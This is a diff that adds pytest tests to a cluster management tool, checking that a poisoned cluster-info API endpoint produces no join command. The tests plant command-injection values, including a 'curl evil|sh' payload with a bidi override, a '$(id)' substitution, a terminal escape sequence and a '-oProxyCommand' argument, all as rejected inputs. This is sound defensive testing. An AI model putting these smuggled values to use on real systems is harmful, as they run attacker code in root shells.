@@ -315,6 +315,42 @@ async def test_join_endpoint_from_controlplane_endpoint(make_sim) -> None:
         await conn.close()
 
 
+async def test_a_hostile_endpoint_in_cluster_info_gives_no_join_command(make_sim) -> None:
+    """cluster-info's server is pasted into a root shell on the new node: anything but host:port
+    (a `;`, a space, a bidi override) refuses the join command instead of printing it."""
+    sim = make_sim("seed", settle=False)
+
+    def poison() -> None:
+        cm = sim.cluster.store.get("configmaps", "kube-public", "cluster-info")
+        cm["data"]["kubeconfig"] = cm["data"]["kubeconfig"].replace(
+            "https://10.0.0.10:6443", "https://10.0.0.10:6443;curl evil|sh;\u202e")
+        sim.cluster.store.update("configmaps", cm)
+
+    sim.call(poison)
+    conn = await connect(sim.kubeconfig_path, "admin")
+    try:
+        with pytest.raises(UserError) as e:
+            await ops.discovery(conn)
+    finally:
+        await conn.close()
+    msg = str(e.value)
+    assert msg.startswith("failed to get join command: kube-public/cluster-info names the API endpoint ")
+    assert msg.endswith("which is not a host:port") and "\u202e" not in msg and "\\u202e" in msg
+
+
+@pytest.mark.parametrize("endpoint, ok", [
+    ("10.0.0.10:6443", True), ("k8s-api.example.com:6443", True), ("[fd00::1]:6443", True), ("cp", True),
+    ("10.0.0.10:6443 --token x", False), ("a;b:6443", False), ("$(id):6443", False), ("", False),
+    ("x\x1b]52;c;eA==\x07:6443", False), ("-oProxyCommand=x", False),
+])
+def test_checked_endpoint(endpoint: str, ok: bool) -> None:
+    if ok:
+        assert ops.checked_endpoint(endpoint, "src") == endpoint
+    else:
+        with pytest.raises(ops.TokenError):
+            ops.checked_endpoint(endpoint, "src")
+
+
 async def test_viewer_gets_a_clear_403(sim) -> None:
     conn = await connect(sim.kubeconfig_path, "viewer")
     try:
